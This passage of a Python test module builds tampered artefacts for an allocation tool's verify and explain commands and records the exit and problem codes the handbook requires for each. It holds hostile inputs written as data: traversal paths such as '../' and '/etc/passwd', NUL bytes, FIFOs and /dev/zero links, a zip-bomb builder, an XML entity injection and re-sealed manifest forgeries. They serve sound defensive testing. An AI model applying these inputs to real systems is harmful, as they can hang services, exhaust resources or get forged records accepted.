"""The corpus of tampered artefacts (index: tests/corpus-artefacts/README.md), as a table in code.

What the product writes comes back as input: run manifests, the register of final runs, year folders, earlier
output workbooks, notice templates and the CSV export. Each case below takes a fresh artefact made by a base run
(`Bases`, built once per test module: committed files would carry one machine's paths and hashes), damages it
the way a hand, a crash or an attacker would, names the command that reads it back and what the handbook's
contract says that command must answer: the exit code and the problem code, and where sensible the file, line
or key path the problem names. The expectations are written here by hand from the handbook (docs/auditor/verify.md:
"`allocation verify`" and "One way back in"; docs/auditor/register.md; docs/controller/umlagejahr.md;
docs/operations/limits.md; and the problem-code table of docs/operations/exit-codes.md), never taken from a run.
`tests/test_tampered_artefacts.py` runs every case.

For `verify`, what it finds beyond a malformed manifest is not a problem code but a field of its report
(docs/auditor/verify.md: `--json` gives `status`, `problems`, `changed_files`, `register`, `manifest_differences`,
`differences`, `package_differences`): such a case's code names the field, and `field[code]` a problem code
inside the field's text (`register[register-corrupt]`: the damaged register, reported as a finding).

`python tests/artefact_cases.py` prints the index table of tests/corpus-artefacts/README.md (`--write` writes it
there).
"""
from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import shutil
import socket
import stat
import sys
import zipfile
from dataclasses import dataclass, replace
from functools import cached_property
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "corpus"
INPUT, RULES = CORPUS / "gueltig.xlsx", CORPUS / "regeln.yaml"
WESEL = ROOT / "fixtures" / "kreis-wesel-2022" / "kreis-wesel-2022-hebesaetze.xlsx"
WESEL_RULES = ROOT / "rules" / "kreis-wesel.yaml"
INDEX = ROOT / "tests" / "corpus-artefacts" / "README.md"
WORKBOOK = "ergebnis.xlsx"  # every base run writes this name, each in its own folder
SUFFIX = ".manifest.json"
ALPEN = "05170004"  # a municipality of both the corpus input and the Kreis Wesel fixture
DEEP = 100  # a JSON line nested this deep is beyond every bound (32)

# ------------------------------------------------------------------------------------------- the base runs


@contextlib.contextmanager
def register_env(folder: Path):
    """ALLOCATION_REGISTER set to `folder` while a base run runs (never the user's own register)."""
    before = os.environ.get("ALLOCATION_REGISTER")
    os.environ["ALLOCATION_REGISTER"] = str(folder)
    try:
        yield
    finally:
        if before is None:
            os.environ.pop("ALLOCATION_REGISTER", None)
        else:
            os.environ["ALLOCATION_REGISTER"] = before


def _renamed_district(source: Path, target: Path, district: str, year: int | None = None,
                      names: dict[str, str] | None = None, bases: dict[str, int] | None = None) -> Path:
    """A copy of an input workbook with another Kreis (and Haushaltsjahr, Gemeinde names and Umlagegrundlagen by
    AGS)."""
    from openpyxl import load_workbook

    workbook = load_workbook(source)
    for row in workbook["Parameter"].iter_rows():
        if row[0].value == "Kreis":
            row[1].value = district
        if row[0].value == "Haushaltsjahr" and year is not None:
            row[1].value = year
    header = [cell.value for cell in workbook["Gemeinden"][1]]
    for row in workbook["Gemeinden"].iter_rows(min_row=2):
        if bases and row[0].value in bases:
            row[header.index("Umlagegrundlagen")].value = bases[row[0].value]
        if names and row[0].value in names:
            row[1].value = names[row[0].value]
            row[1].data_type = "s"  # text, even where it looks like a formula (openpyxl would write one)
    target.parent.mkdir(parents=True, exist_ok=True)
    workbook.save(target)
    return target


class Bases:
    """Fresh runs the cases are made from, each built on first use into `folder` and never changed afterwards:
    a case copies what it damages into its own bench."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.quiet_register = folder / "installation" / "register"  # the register test runs consult (empty)

    def run(self, *argv: object, register: Path | None = None) -> None:
        from allocation.cli import main

        out, err = io.StringIO(), io.StringIO()
        with register_env(register or self.quiet_register), contextlib.redirect_stdout(out), \
                contextlib.redirect_stderr(err):
            code = main([str(a) for a in argv])
        assert code == 0, f"base run {argv[:2]} failed ({code}):\n{out.getvalue()}\n{err.getvalue()}"

    def _output(self, *parts: str) -> Path:
        path = self.folder.joinpath(*parts, WORKBOOK)
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    @cached_property
    def kleve_input(self) -> Path:
        return _renamed_district(INPUT, self.folder / "eingaben" / "kleve.xlsx", "Kreis Kleve")

    @cached_property
    def kleve_rules(self) -> Path:
        path = self.folder / "eingaben" / "kleve.yaml"
        path.write_text(RULES.read_text(encoding="utf-8").replace("district: Kreis Wesel", "district: Kreis Kleve"),
                        encoding="utf-8")
        return path

    def changed_input(self, number: int) -> Path:
        """The corpus input with Alpen's Umlagegrundlagen raised by `number` euros."""
        return _renamed_district(INPUT, self.folder / "eingaben" / f"geaendert-{number}.xlsx", "Kreis Wesel",
                                 bases={ALPEN: 27154437 + number})

    @cached_property
    def small(self) -> dict[str, Path]:
        """Test runs of the corpus input (Kreis Wesel 2022): `a` and `b`, and `kleve` (the same as Kreis Kleve)."""
        runs = {"a": self._output("klein", "a"), "b": self._output("klein", "b"),
                "kleve": self._output("klein", "kleve")}
        self.run("run", INPUT, "--rules", RULES, "-o", runs["a"])
        self.run("run", INPUT, "--rules", RULES, "-o", runs["b"])
        self.run("run", self.kleve_input, "--rules", self.kleve_rules, "-o", runs["kleve"])
        return runs

    @cached_property
    def finals(self) -> dict[str, Path]:
        """A register (`register`) holding three final runs of the corpus input, `1` and `2` superseded by `3`
        (wesel-2022.jsonl, three lines; the superseded ones of other Umlagegrundlagen, so their workbooks differ
        from the one in force), and a final run of Kreis Kleve, `kleve` (kleve-2022.jsonl): its chain _kette.jsonl
        has four lines, the last Kleve's."""
        register = self.folder / "echtlaeufe" / "register"
        runs = {"register": register, **{n: self._output("echtlaeufe", f"lauf-{n}") for n in ("1", "2", "3")},
                "kleve": self._output("echtlaeufe", "kleve")}
        for n, source in (("1", self.changed_input(1)), ("2", self.changed_input(2)), ("3", INPUT)):
            supersede = ("--supersede", f"Korrektur {n}") if n != "1" else ()
            self.run("run", source, "--rules", RULES, "-o", runs[n], "--mode", "final", *supersede, register=register)
        self.run("run", self.kleve_input, "--rules", self.kleve_rules, "-o", runs["kleve"], "--mode", "final",
                 register=register)
        return runs

    @cached_property
    def year(self) -> Path:
        """A year folder (Kreis Wesel 2022) with the stages 01-modell and 02-benehmen (test runs)."""
        folder = self.folder / "jahr"
        self.run("year", "init", folder, "--district", "Kreis Wesel", "--year", "2022")
        for stage in ("modell", "benehmen"):
            self.run("year", "stage", folder, stage, INPUT, "--rules", RULES)
        return folder

    @cached_property
    def wesel(self) -> dict[str, Path]:
        """Runs of the Kreis Wesel fixture with rates: `2022` (a test run), `2021` (its input as Haushaltsjahr
        2021), `kleve-2021` and `kleve-2022` (as Kreis Kleve), and two final runs in the register `register`,
        `final-1` (Alpen's Umlagegrundlagen other) and `final-2` (the fixture, superseding it)."""
        register = self.folder / "wesel" / "register"
        runs = {key: self._output("wesel", key) for key in ("2022", "2021", "kleve-2021", "kleve-2022", "final-1",
                                                            "final-2")}
        runs["register"] = register
        inputs = self.folder / "eingaben"
        previous = _renamed_district(WESEL, inputs / "wesel-2021.xlsx", "Kreis Wesel", 2021)
        self.run("run", WESEL, "--rules", WESEL_RULES, "-o", runs["2022"])
        self.run("run", previous, "--rules", WESEL_RULES, "-o", runs["2021"], "--ignore-validity", "Vorjahr")
        for year in (2021, 2022):
            source = _renamed_district(WESEL, inputs / f"kleve-{year}.xlsx", "Kreis Kleve", year)
            self.run("run", source, "--rules", WESEL_RULES, "-o", runs[f"kleve-{year}"], "--ignore-validity", "Modell")
        first = _renamed_district(WESEL, inputs / "wesel-frueher.xlsx", "Kreis Wesel", bases={ALPEN: 30_000_000})
        self.run("run", first, "--rules", WESEL_RULES, "-o", runs["final-1"], "--mode", "final", register=register)
        self.run("run", WESEL, "--rules", WESEL_RULES, "-o", runs["final-2"], "--mode", "final", "--supersede",
                 "neue Zahlen", register=register)
        return runs

    def export(self, kassenzeichen: str, names: dict[str, str] | None = None) -> Path:
        """A test run of the Kreis Wesel fixture whose rule file's Kassenzeichen pattern is `kassenzeichen` and
        whose Gemeinden carry `names` (AGS -> name); one per pattern, kept."""
        key = hashlib.sha256(json.dumps([kassenzeichen, names]).encode()).hexdigest()[:12]
        folder = self.folder / "export" / key
        output = folder / WORKBOOK
        if not output.exists():
            folder.mkdir(parents=True)
            rules = folder / "kreis-wesel.yaml"
            text = WESEL_RULES.read_text(encoding="utf-8")
            assert 'kassenzeichen: "KU-{jahr}-{ags}-{umlage}"' in text
            rules.write_text(text.replace('kassenzeichen: "KU-{jahr}-{ags}-{umlage}"',
                                          f"kassenzeichen: {json.dumps(kassenzeichen)}"), encoding="utf-8")
            source = _renamed_district(WESEL, folder / "eingabe.xlsx", "Kreis Wesel", names=names)
            self.run("run", source, "--rules", rules, "-o", output)
        return output


# ---------------------------------------------------------------------------------------------- the bench


@dataclass
class Bench:
    """One case's own folder: everything the case damages, and everything a command could write, lies in it
    (the register too), so that "nothing written" is a comparison of the folder before and after."""

    folder: Path
    bases: Bases

    def __post_init__(self) -> None:
        self.folder.mkdir(parents=True, exist_ok=True)
        self.register = self.folder / "installation" / "register"

    def copy_run(self, workbook: Path, name: str = "lauf", manifest: bool = True) -> Path:
        """The run's workbook (and its manifest) copied to `name/ergebnis.xlsx`."""
        target = self.folder / name / WORKBOOK
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(workbook, target)
        if manifest:
            shutil.copyfile(f"{workbook}{SUFFIX}", f"{target}{SUFFIX}")
        return target

    def use_register(self, source: Path) -> Path:
        """A copy of the register `source` as this case's installation register."""
        self.register = self.folder / "register"
        shutil.copytree(source, self.register, symlinks=True)
        return self.register

    def copy_tree(self, source: Path, name: str) -> Path:
        target = self.folder / name
        shutil.copytree(source, target, symlinks=True)
        return target

    def path(self, *parts: str) -> Path:
        return self.folder.joinpath(*parts)


@dataclass(frozen=True)
class Call:
    """The command of a case, as `allocation.cli.main` arguments; `check` says what must hold after a success."""

    argv: tuple[str, ...]
    check: Callable[[], None] | None = None


def call(*argv: object, check: Callable[[], None] | None = None) -> Call:
    return Call(tuple(str(a) for a in argv), check)


@dataclass(frozen=True)
class Case:
    id: str
    artefact: str  # manifest | register | year | earlier | template | export
    tampering: str
    command: str
    exit: int
    code: str
    why: str
    prepare: Callable[[Bench], Call]
    where: str | None = None  # a text the located problem (its place and message, or verify's finding) names
    hangs: bool = False  # a FIFO or a device: run in a subprocess with a timeout
    typst: bool = False  # notices and benehmen need the typst package


# ------------------------------------------------------------------------------------------ running


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry below `folder`: its kind and, for a regular file its SHA-256, for a link its target. Nothing
    is opened but regular files (a FIFO stays unread)."""
    found: dict[str, tuple] = {}
    for root, folders, files in os.walk(folder):
        for name in folders + files:
            path = Path(root, name)
            mode = os.lstat(path).st_mode
            if stat.S_ISREG(mode):
                found[str(path.relative_to(folder))] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
            elif stat.S_ISLNK(mode):
                found[str(path.relative_to(folder))] = ("link", os.readlink(path))
            else:
                found[str(path.relative_to(folder))] = (stat.S_IFMT(mode),)
    return found


def in_process(argv: tuple[str, ...]) -> tuple[int, str, str]:
    """`main(argv)` with stdout and stderr as strict UTF-8 streams, as a terminal or a pipe has them (a text that
    no encoding can write fails there, as it would in the shell)."""
    from allocation.cli import main

    out, err = (io.TextIOWrapper(io.BytesIO(), encoding="utf-8", newline="") for _ in range(2))
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(list(argv))
        except SystemExit as stop:  # usage errors end in SystemExit(2)
            code = stop.code
    texts = []
    for stream in (out, err):
        stream.flush()
        texts.append(stream.buffer.getvalue().decode("utf-8"))
    return code, texts[0], texts[1]


# ------------------------------------------------------------------------------------- damaging by hand


def lines(path: Path) -> list[bytes]:
    return path.read_bytes().splitlines(keepends=True)


def edit_line(path: Path, number: int, edit: Callable[[bytes], bytes]) -> None:
    """Line `number` (1-based, -1 the last) replaced by `edit(line)`; the others stay byte for byte."""
    found = lines(path)
    index = number - 1 if number > 0 else len(found) + number
    changed = edit(found[index])
    assert changed != found[index]
    found[index] = changed
    path.write_bytes(b"".join(found))


def delete_line(path: Path, number: int) -> None:
    found = lines(path)
    del found[number - 1 if number > 0 else len(found) + number]
    path.write_bytes(b"".join(found))


def swap_lines(path: Path, a: int, b: int) -> None:
    found = lines(path)
    found[a - 1], found[b - 1] = found[b - 1], found[a - 1]
    path.write_bytes(b"".join(found))


def append_line(path: Path, text: bytes) -> None:
    path.write_bytes(path.read_bytes() + text + b"\n")


def cut(path: Path, count: int = 40) -> None:
    path.write_bytes(path.read_bytes()[:-count])


def replaced(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def edit(line: bytes) -> bytes:
        assert old in line, (old, line[:200])
        return line.replace(old, new, 1)
    return edit


def plus_one(key: str) -> Callable[[bytes], bytes]:
    """A number `"key": N` in a JSON line raised by one."""
    def edit(line: bytes) -> bytes:
        return re.sub(rb'("%s": )(\d+)' % key.encode(), lambda m: m.group(1) + str(int(m.group(2)) + 1).encode(),
                      line, count=1)
    return edit


def fifo(path: Path) -> Path:
    remove(path)
    os.mkfifo(path)
    return path


def unix_socket(path: Path) -> Path:
    """A socket file at `path` (bound from its folder: socket paths are short)."""
    remove(path)
    with contextlib.chdir(path.parent):
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path.name)
    return path


def symlink(path: Path, target: str | Path) -> Path:
    remove(path)
    path.symlink_to(target)
    return path


def remove(path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif os.path.lexists(path):
        path.unlink()


def deep_json(depth: int = DEEP) -> bytes:
    return b"[" * depth + b"]" * depth


def manifest_of(workbook: Path) -> Path:
    return Path(f"{workbook}{SUFFIX}")


def edit_manifest(workbook: Path, edit: Callable[[dict], object], *, seal: bool = True, ascii_only: bool = False) -> None:
    """The manifest beside `workbook` edited as a dict and written again: sealed again (`seal`, as a deliberate
    editor would, with the product's own checksum) or with its old seal kept."""
    from allocation.runs.manifest import sealed

    path = manifest_of(workbook)
    manifest = json.loads(path.read_text(encoding="utf-8"))
    result = edit(manifest)
    manifest = manifest if result is None else result
    if seal and isinstance(manifest, dict):
        manifest = sealed(manifest)
    path.write_text(json.dumps(manifest, ensure_ascii=ascii_only, indent=2) + "\n", encoding="utf-8")


def resign(workbook: Path, data: bytes) -> None:
    """`data` as the workbook, and its manifest updated to match (its SHA-256, sealed again): a forgery the
    hash check alone cannot tell."""
    workbook.write_bytes(data)
    edit_manifest(workbook, lambda m: m["output"].__setitem__("sha256", hashlib.sha256(data).hexdigest()))


def rezipped(workbook: Path, edit: Callable[[list[tuple[zipfile.ZipInfo, bytes]]], None]) -> bytes:
    with zipfile.ZipFile(workbook) as source:
        members = [(info, source.read(info.filename)) for info in source.infolist()]
    edit(members)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in members:
            target.writestr(info, data)
    return buffer.getvalue()


def zip_bomb(workbook: Path) -> bytes:
    """The workbook with one more part of 4 MiB of zeros (deflated about 1000:1, beyond the 200:1 bound)."""
    part = zipfile.ZipInfo("xl/media/bombe.bin")
    part.compress_type = zipfile.ZIP_DEFLATED
    return rezipped(workbook, lambda members: members.append((part, bytes(4 << 20))))


def xml_entity(workbook: Path) -> bytes:
    """The workbook with a DTD and an entity in xl/workbook.xml."""
    def edit(members):
        for index, (info, data) in enumerate(members):
            if info.filename == "xl/workbook.xml":
                members[index] = (info, re.sub(rb"^(<\?xml[^>]*\?>\s*)", rb'\1<!DOCTYPE workbook [<!ENTITY a "aaaa">]>',
                                               data, count=1))
    return rezipped(workbook, edit)


# ---------------------------------------------------------------------------------------------- manifests

R_VERIFY = "docs/auditor/verify.md › `allocation verify`, step 1: the manifest read back like any input"
R_FILES = ("docs/auditor/verify.md › step 2: recorded files read only as regular files (a FIFO or device is never "
           "opened blocking)")
R_REPLAY = "docs/auditor/verify.md › One way back in, Seals: a re-sealed manifest is found by the replay (step 5)"
R_ANY = ("docs/operations/exit-codes.md › Exit codes, exit 7: any command, an earlier output whose manifest is "
         "unusable "
         "(`manifest-*`)")


def _small_run(bench: Bench) -> Path:
    return bench.copy_run(bench.bases.small["a"])


def _final_run(bench: Bench) -> Path:
    bench.use_register(bench.bases.finals["register"])
    return bench.copy_run(bench.bases.finals["3"])


def _total(manifest: dict) -> None:
    manifest["totals_cents"][ALPEN]["total"] += 1


def _flip_hex(text: str) -> str:
    return text[:-1] + ("0" if text[-1] != "0" else "1")


def _text_edit(edit: Callable[[str], str]) -> Callable[[Path], None]:
    def apply(workbook: Path) -> None:
        path = manifest_of(workbook)
        text = path.read_text(encoding="utf-8")
        changed = edit(text)
        assert changed != text
        path.write_text(changed, encoding="utf-8")
    return apply


def _bytes_edit(edit: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def apply(workbook: Path) -> None:
        path = manifest_of(workbook)
        path.write_bytes(edit(path.read_bytes()))
    return apply


def _sealed(edit: Callable[[dict], object], **options) -> Callable[[Path], None]:
    return lambda workbook: edit_manifest(workbook, edit, **options)


def _unsealed(edit: Callable[[dict], object]) -> Callable[[Path], None]:
    return lambda workbook: edit_manifest(workbook, edit, seal=False)


def _points_to(entry: str, make: Callable[[Bench], Path], which: tuple[str, ...] = ("path", "absolute")):
    """input (or rules[0]) recorded as the path `make(bench)` makes; sealed again."""
    def tamper(bench: Bench, workbook: Path) -> None:
        target = str(make(bench))

        def edit(manifest: dict) -> None:
            record = manifest["rules"][0] if entry == "rules" else manifest[entry]
            for key in which:
                record[key] = target
        edit_manifest(workbook, edit)
    return tamper


def _fifo_at(name: str) -> Callable[[Bench], Path]:
    return lambda bench: fifo(bench.path(name))


def _folder_at(name: str) -> Callable[[Bench], Path]:
    def make(bench: Bench) -> Path:
        bench.path(name).mkdir()
        return bench.path(name)
    return make


def _manifest_fifo(workbook: Path) -> None:
    fifo(manifest_of(workbook))


def _del(*keys: str) -> Callable[[dict], None]:
    def edit(manifest: dict) -> None:
        node = manifest
        for key in keys[:-1]:
            node = node[key]
        del node[keys[-1]]
    return edit


def _set(value: object, *keys: str) -> Callable[[dict], None]:
    def edit(manifest: dict) -> None:
        node = manifest
        for key in keys[:-1]:
            node = node[key]
        node[keys[-1]] = value
    return edit


def _downgrade_edited(manifest: dict) -> None:
    manifest["format"] = "allocation-manifest/1"
    del manifest["seal"]
    _total(manifest)


# (id, tampering, manifest edit (workbook) or bench edit (bench, workbook), exit, code, where, why, options)
_MANIFEST = [
    ("output-file-dotdot", "`output.file` = `../ergebnis.xlsx`, sealed again", _sealed(_set("../" + WORKBOOK, "output", "file")),
     7, "manifest-bad-value", "output.file", R_VERIFY, {}),
    ("output-file-absolute", "`output.file` = `/etc/passwd`, sealed again", _sealed(_set("/etc/passwd", "output", "file")),
     7, "manifest-bad-value", "output.file", R_VERIFY, {}),
    ("output-file-nul", "`output.file` with a NUL character, sealed again",
     _sealed(_set(WORKBOOK + "\x00.txt", "output", "file")), 7, "manifest-bad-value", "output.file", R_VERIFY, {}),
    ("input-fifo", "input path and absolute path name a FIFO, sealed again", _points_to("input", _fifo_at("eingabe.xlsx")),
     7, "changed_files", "Eingabe nicht gefunden", R_FILES, {"hangs": True, "bench": True}),
    ("input-dev-zero", "input path and absolute path name `/dev/zero`, sealed again",
     _points_to("input", lambda bench: Path("/dev/zero")), 7, "changed_files", "/dev/zero", R_FILES,
     {"hangs": True, "bench": True}),
    ("input-directory", "input path and absolute path name a folder, sealed again",
     _points_to("input", _folder_at("eingabe.xlsx")), 7, "changed_files", "Eingabe nicht gefunden", R_FILES,
     {"bench": True}),
    ("rules-directory", "rule file path and absolute path name a folder, sealed again",
     _points_to("rules", _folder_at("regeln.yaml")), 7, "changed_files", "Regeldatei nicht gefunden", R_FILES,
     {"bench": True}),
    ("rules-fifo", "rule file path and absolute path name a FIFO, sealed again", _points_to("rules", _fifo_at("regeln.yaml")),
     7, "changed_files", "Regeldatei nicht gefunden", R_FILES, {"hangs": True, "bench": True}),
    ("input-path-fifo", "the input's path as given names a FIFO of its name (its absolute path the real input), "
     "sealed again", _points_to("input", _fifo_at("gueltig.xlsx"), ("path",)), 7, "replay_error", "input-unreadable",
     "docs/auditor/verify.md › step 4 (replay), and docs/operations/limits.md › Hostile and broken input: a FIFO is "
     "`input-unreadable`, never opened",
     {"hangs": True, "bench": True}),
    ("rules-path-dev-zero", "the rule file's path as given names `/dev/zero` (its absolute path the real file), sealed again",
     _points_to("rules", lambda bench: Path("/dev/zero"), ("path",)), 7, "replay_error", "rule-file-unreadable",
     "docs/auditor/verify.md › step 4 (replay): the rule file read as an input; a device is never read",
     {"hangs": True, "bench": True}),
    ("workbook-fifo", "the workbook beside the manifest a FIFO", lambda workbook: fifo(workbook), 7, "changed_files",
     "nicht lesbar", R_FILES, {"hangs": True}),
    ("workbook-dev-zero", "the workbook beside the manifest a symbolic link to `/dev/zero`",
     lambda workbook: symlink(workbook, "/dev/zero"), 7, "changed_files", "nicht lesbar", R_FILES, {"hangs": True}),
    ("sha-not-hex", "`input.sha256` not hexadecimal (seal kept)", _unsealed(_set("g" * 64, "input", "sha256")),
     7, "manifest-bad-type", "input.sha256", R_VERIFY + ": a SHA-256 that is not 64 hex digits", {}),
    ("sha-flipped", "one hex digit of `input.sha256` changed, seal kept",
     _unsealed(lambda m: m["input"].__setitem__("sha256", _flip_hex(m["input"]["sha256"]))), 7, "manifest-changed",
     "Siegel", R_VERIFY + ": the seal does not fit the content", {}),
    ("sha-flipped-resealed", "one hex digit of `input.sha256` changed, sealed again",
     _sealed(lambda m: m["input"].__setitem__("sha256", _flip_hex(m["input"]["sha256"]))), 7, "changed_files",
     "gueltig.xlsx", "docs/auditor/verify.md › step 2: the input's hash", {}),
    ("output-sha-resealed", "one hex digit of `output.sha256` changed, sealed again",
     _sealed(lambda m: m["output"].__setitem__("sha256", _flip_hex(m["output"]["sha256"]))), 7, "changed_files",
     WORKBOOK, "docs/auditor/verify.md › step 2: the output's hash", {}),
    ("key-removed", "`total_cents` removed, sealed again", _sealed(_del("total_cents")), 7, "manifest-missing-key",
     "total_cents", R_VERIFY + ": a missing key", {}),
    ("nested-key-removed", "`parameters.year` removed, sealed again", _sealed(_del("parameters", "year")), 7,
     "manifest-missing-key", "parameters.year", R_VERIFY + ": a missing key, named by its key path", {}),
    ("wrong-type", "`parameters.year` as text \"2022\", sealed again", _sealed(_set("2022", "parameters", "year")), 7,
     "manifest-bad-type", "parameters.year", R_VERIFY + ": a year as text", {}),
    ("rules-empty", "`rules` an empty list, sealed again", _sealed(_set([], "rules")), 7, "manifest-bad-type", "rules",
     R_VERIFY + ": an empty `rules` list", {}),
    ("not-an-object", "the manifest a JSON array `[]`", _unsealed(lambda m: []), 7, "manifest-bad-type", "oberste Ebene",
     R_VERIFY + ": a value of the wrong type", {}),
    ("duplicate-key", "`format` twice in the top object", _text_edit(lambda t: t.replace("{", '{\n  "format": "x",', 1)),
     7, "manifest-not-json", "zweimal", R_VERIFY + ": a duplicate key", {}),
    ("nan", "`total_cents` NaN", _text_edit(lambda t: re.sub(r'"total_cents": -?\d+', '"total_cents": NaN', t)), 7,
     "manifest-not-json", "NaN", "docs/operations/limits.md › manifests read back: no NaN", {}),
    ("infinity", "`total_cents` -Infinity",
     _text_edit(lambda t: re.sub(r'"total_cents": -?\d+', '"total_cents": -Infinity', t)), 7, "manifest-not-json",
     "Infinity", "docs/auditor/verify.md › One way back in: no NaN (nor Infinity)", {}),
    ("deep", "100,000 nested brackets", _bytes_edit(lambda _: b"[" * 100_000 + b"]" * 100_000), 7, "manifest-too-large",
     ":1:33", R_VERIFY + ": nested deeper than 32 levels (the 33rd bracket named)", {}),
    ("whitespace-20mb", "20 MB of spaces after the JSON (beyond the 16 MiB bound)",
     _bytes_edit(lambda data: data + b" " * (20 << 20)), 7, "manifest-too-large", "16.777.216",
     R_VERIFY + ": larger than 16 MiB", {}),
    ("truncated", "cut in the middle", _bytes_edit(lambda data: data[: len(data) // 2]), 7, "manifest-not-json", "JSON",
     R_VERIFY + ": truncated", {}),
    ("not-utf8", "a Latin-1 byte in a name", _bytes_edit(lambda data: data.replace(b"Alpen", b"Alp\xe9n", 1)), 7,
     "manifest-unreadable", "UTF-8", R_VERIFY + ": not UTF-8", {}),
    ("lone-surrogate", "a lone surrogate escape `\\ud800` in `tool.allocation`, sealed again",
     _sealed(_set("0.1\ud800", "tool", "allocation"), ascii_only=True), 7, "manifest-unreadable", "Surrogat",
     R_VERIFY + ": not UTF-8 (a lone surrogate is no character and has no UTF-8 form)", {}),
    ("value-edited", "a municipality's total raised by one cent, seal kept", _unsealed(_total), 7, "manifest-changed",
     "Siegel", R_VERIFY + ": `manifest-changed`, its seal does not fit its content", {}),
    ("value-edited-resealed", "a municipality's total raised by one cent, sealed again", _sealed(_total), 7,
     "manifest_differences", f"totals_cents.{ALPEN}.total", R_REPLAY, {}),
    ("fifo", "the manifest a FIFO", _manifest_fifo, 7, "manifest-unreadable", SUFFIX,
     R_VERIFY + "; docs/auditor/verify.md › One way back in: a FIFO is refused before a byte is read",
     {"hangs": True}),
    ("symlink-dev-zero", "the manifest a symbolic link to `/dev/zero`",
     lambda workbook: symlink(manifest_of(workbook), "/dev/zero"), 7, "manifest-unreadable", SUFFIX,
     "docs/auditor/verify.md › One way back in, Bounds: a device is refused before a byte is read", {"hangs": True}),
    ("missing", "the manifest removed", lambda workbook: manifest_of(workbook).unlink(), 7, "manifest-unreadable", SUFFIX,
     R_VERIFY, {}),
    ("directory", "the manifest a folder", lambda workbook: (manifest_of(workbook).unlink(), manifest_of(workbook).mkdir()),
     7, "manifest-unreadable", SUFFIX, "docs/auditor/verify.md › One way back in, Bounds: only regular files are "
                                       "read", {}),
    ("downgrade-seal-kept", "`format` downgraded to `allocation-manifest/1`, seal kept",
     _unsealed(_set("allocation-manifest/1", "format")), 7, "manifest-bad-value", "format",
     R_VERIFY + ": a /1 manifest was written before the seal; one with a seal is not /1", {}),
    ("downgrade-edited", "`format` downgraded to `allocation-manifest/1`, seal removed, a total raised by one cent",
     _unsealed(_downgrade_edited), 7, "manifest_differences", f"totals_cents.{ALPEN}.total",
     "docs/auditor/verify.md › One way back in, Seals: what re-sealing (or dropping the seal) hides, the replay "
     "finds", {}),
    ("format-unknown", "`format` = `allocation-manifest/9`, sealed again", _sealed(_set("allocation-manifest/9", "format")),
     7, "manifest-bad-value", "format", R_VERIFY + ": an unknown `format`", {}),
    ("started-not-a-time", "`started_utc` = \"gestern\", sealed again", _sealed(_set("gestern", "started_utc")), 7,
     "manifest-bad-value", "started_utc", R_VERIFY + ": a `started_utc` that is no time", {}),
    ("mode-unknown", "`parameters.mode` = \"echt\", sealed again", _sealed(_set("echt", "parameters", "mode")), 7,
     "manifest-bad-value", "parameters.mode", R_VERIFY, {}),
    ("year-five-digits", "`parameters.year` = 20222, sealed again", _sealed(_set(20222, "parameters", "year")), 7,
     "manifest-bad-value", "parameters.year", R_VERIFY, {}),
]

_FINAL_MANIFEST = [
    ("register-other-seq", "a final run's `register.seq` 3 → 2, sealed again", _sealed(_set(2, "register", "seq")), 7,
     "register", "Eintrag Nr. 2", "docs/auditor/verify.md › step 3: the entry (file, seq, hash) must be in the "
                                  "register", {}),
    ("register-other-file", "a final run's `register.file` → `kleve-2022.jsonl`, sealed again",
     _sealed(_set("kleve-2022.jsonl", "register", "file")), 7, "register", "kleve-2022.jsonl",
     "docs/auditor/verify.md › step 3: the entry (file, seq, hash) must be in the register", {}),
    ("register-file-path", "a final run's `register.file` → `../wesel-2022.jsonl`, sealed again",
     _sealed(_set("../wesel-2022.jsonl", "register", "file")), 7, "manifest-bad-value", "register.file",
     "docs/auditor/verify.md › One way back in: paths are never trusted (a register file is a plain name)", {}),
    ("final-as-test", "a final run's `parameters.mode` → `test` (to skip the register), sealed again",
     _sealed(_set("test", "parameters", "mode")), 7, "manifest-bad-value", "register",
     "docs/auditor/verify.md › step 5: a `register` entry belongs to a final run only", {}),
]


def _manifest_case(prefix: str, command: str, make_run: Callable[[Bench], Path], argv: Callable[[Path], tuple],
                   entry: tuple) -> Case:
    name, tampering, edit, exit_code, code, where, why, options = entry

    def prepare(bench: Bench) -> Call:
        workbook = make_run(bench)
        if options.get("bench"):
            edit(bench, workbook)
        else:
            edit(workbook)
        return call(*argv(workbook))

    return Case(f"manifest/{prefix}{name}", "manifest", tampering, command, exit_code, code, why, prepare, where,
                hangs=options.get("hangs", False))


def manifest_cases() -> list[Case]:
    cases = [_manifest_case("", "verify", _small_run, lambda w: ("verify", w, "--json"), entry) for entry in _MANIFEST]
    cases += [_manifest_case("", "verify (Echtlauf)", _final_run, lambda w: ("verify", w, "--json"), entry)
              for entry in _FINAL_MANIFEST]
    # the same manifests, read back by another command (explain: no --json, its problems on stderr)
    explained = ("output-file-dotdot", "truncated", "lone-surrogate", "value-edited", "fifo", "symlink-dev-zero",
                 "downgrade-seal-kept", "deep")
    cases += [replace(_manifest_case("explain-", "explain", _small_run,
                                     lambda w: ("explain", w, "--item", "KIM-2022"), entry), why=R_ANY)
              for entry in _MANIFEST if entry[0] in explained]
    return cases


# ---------------------------------------------------------------------------------------------- register

R_REGISTER = ("docs/auditor/register.md › A damaged register stops every final run and every command "
              "that writes a file (`register-corrupt`, exit 8, naming the file and line)")
R_REGISTER_VERIFY = ("docs/auditor/verify.md › step 3, and docs/auditor/register.md: a damaged register is a finding, "
                     "exit 7")
R_STATUS = "docs/auditor/register.md › `allocation register status` exits 8 with the located problem if it is damaged"
DISTRICT, CHAIN = "wesel-2022.jsonl", "_kette.jsonl"


def _district(bench: Bench) -> Path:
    return bench.register / DISTRICT


def _chain(bench: Bench) -> Path:
    return bench.register / CHAIN


def _legacy_line(**fields: object) -> bytes:
